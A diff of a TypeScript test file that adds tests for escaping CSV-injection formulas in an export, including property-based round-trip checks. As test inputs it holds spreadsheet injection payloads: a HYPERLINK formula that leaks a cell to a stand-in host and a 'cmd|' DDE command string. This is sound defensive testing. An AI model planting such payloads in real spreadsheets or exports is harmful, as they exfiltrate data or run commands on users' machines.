@@ -1,8 +1,13 @@
-/** The CSV export parsed back with csv-parse: one row per case, flattened columns, texts byte for byte. */
+/**
+ * The CSV export parsed back with csv-parse: one row per case, flattened columns, texts byte for byte except
+ * for the documented escape of cells a spreadsheet would run as formulas (CSV injection), which a reader undoes.
+ */
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { parse } from 'csv-parse/sync';
-import { CSV_COLUMNS } from '../../main/core/releases/exports/csv.js';
+import fc from 'fast-check';
+import { CSV_COLUMNS, csvFiles, FORMULA_ESCAPED } from '../../main/core/releases/exports/csv.js';
+import type { RedactedText } from '../../main/core/text.js';
 import { writeReleaseExport } from '../../main/core/releases/exports/index.js';
 import { tempDir } from '../helpers.js';
 import { readTree, sampleSnapshot, snapshotOf, TRICKY } from './release-export-snapshot.js';
@@ -56,12 +61,94 @@ test('nested values are flattened into columns, booleans as true/false, unknown 
   assert.equal(bare!.reviewer, '');
 });
 
-test('commas, quotes, line breaks, formulas and non-ASCII text survive the round trip exactly', (t) => {
+test('commas, quotes, line breaks, a formula inside a text and non-ASCII text survive the round trip exactly', (t) => {
   const { rows } = exported(t);
   const bare = rows[2]!;
   assert.equal(bare.task_final, TRICKY);
   assert.equal(bare.last_user_message, TRICKY);
   assert.deepEqual(JSON.parse(bare.messages_json!), [{ role: 'user', content: TRICKY }]);
+});
+
+/** The bare sample case with its texts replaced. */
+function caseWith(texts: { final?: string; original?: string; expected?: string; user?: string; response?: string; intent?: string; reviewer?: string }, latency?: number) {
+  const base = sampleSnapshot().cases[2]!;
+  const r = (text: string) => text as RedactedText;
+  return {
+    ...base,
+    messages: [{ role: 'user', content: r(texts.user ?? 'hello') }],
+    response: texts.response === undefined ? null : { role: 'assistant', content: r(texts.response) },
+    expected_behaviour: texts.expected ?? '',
+    task: { ...base.task, original: texts.original ?? 'hello', final: texts.final ?? 'hello' },
+    signals: latency === undefined ? {} : { latency_ms: latency },
+    slices: texts.intent === undefined ? {} : { intent: texts.intent },
+    review: { reviewer: texts.reviewer ?? null, decided_at: null },
+  };
+}
+
+/** What a program reading cases.csv does (FORMATS.md): one `'` off a field that was escaped. */
+const unescape = (field: string) => (FORMULA_ESCAPED.test(field) ? field.slice(1) : field);
+
+/** A spreadsheet runs a cell starting with one of these as a formula. */
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+test('a text a spreadsheet would run as a formula comes back with one leading apostrophe; numbers are left alone', (t) => {
+  const texts = {
+    final: '=HYPERLINK("http://example.test/?leak="&A2,"Open")',
+    original: '+1 555 0100 is [PHONE_1]',
+    expected: '-2+3',
+    user: '@SUM(A1:A9)',
+    response: '\tcmd|\'/c calc\'!A0',
+    intent: '\uFF1D1+1',
+    reviewer: '\rana',
+  };
+  const { rows } = exported(t, snapshotOf([caseWith(texts, -5)]));
+  const row = rows[0]!;
+  assert.equal(row.task_final, `'${texts.final}`);
+  assert.equal(row.task_original, `'${texts.original}`);
+  assert.equal(row.expected_behaviour, `'${texts.expected}`);
+  assert.equal(row.last_user_message, `'${texts.user}`);
+  assert.equal(row.response, `'${texts.response}`);
+  assert.equal(row.slice_intent, `'${texts.intent}`);
+  assert.equal(row.reviewer, `'${texts.reviewer}`);
+  assert.equal(row.signal_latency_ms, '-5', 'a negative number stays a number');
+  // The JSON columns begin with [ or { and carry the texts exactly.
+  assert.deepEqual(JSON.parse(row.messages_json!), [{ role: 'user', content: texts.user }]);
+  // No field of the file starts a formula, except the number.
+  for (const [column, field] of Object.entries(row)) if (column !== 'signal_latency_ms') assert.doesNotMatch(field, FORMULA_START, column);
+  // Undoing the escape gives every text back.
+  assert.equal(unescape(row.task_final!), texts.final);
+  assert.equal(unescape(row.response!), texts.response);
+});
+
+test('texts already starting with apostrophes stay reversible: only those before a formula character get one more', (t) => {
+  const texts = { final: "'=already quoted", original: "''+twice", expected: "'plain apostrophe", user: "it's fine", response: "'" };
+  const { rows } = exported(t, snapshotOf([caseWith(texts)]));
+  const row = rows[0]!;
+  assert.equal(row.task_final, "''=already quoted");
+  assert.equal(row.task_original, "'''+twice");
+  assert.equal(row.expected_behaviour, "'plain apostrophe", 'not before a formula character: exactly as frozen');
+  assert.equal(row.last_user_message, "it's fine");
+  assert.equal(row.response, "'");
+  for (const [key, column] of [['final', 'task_final'], ['original', 'task_original'], ['expected', 'expected_behaviour'], ['user', 'last_user_message'], ['response', 'response']] as const) {
+    assert.equal(unescape(row[column]!), texts[key], column);
+  }
+});
+
+test('any text comes back exactly after the documented unescape, and unchanged unless it starts like a formula', () => {
+  const start = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF20', "'", "''", "'=", "''-", ' =', 'a');
+  const text = fc.tuple(start, fc.string({ maxLength: 12, unit: 'grapheme' })).map(([a, b]) => a + b);
+  fc.assert(
+    fc.property(text, text, (final, user) => {
+      const [file] = csvFiles(snapshotOf([caseWith({ final, user })]));
+      const [row] = parse(file!.contents, { columns: true }) as Array<Record<string, string>>;
+      for (const [field, original] of [[row!.task_final!, final], [row!.last_user_message!, user]] as const) {
+        assert.equal(unescape(field), original);
+        if (!/^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(original)) assert.equal(field, original);
+        assert.doesNotMatch(field, FORMULA_START);
+      }
+    }),
+    { numRuns: 300 },
+  );
 });
 
 test('a release without cases still gets the header', (t) => {
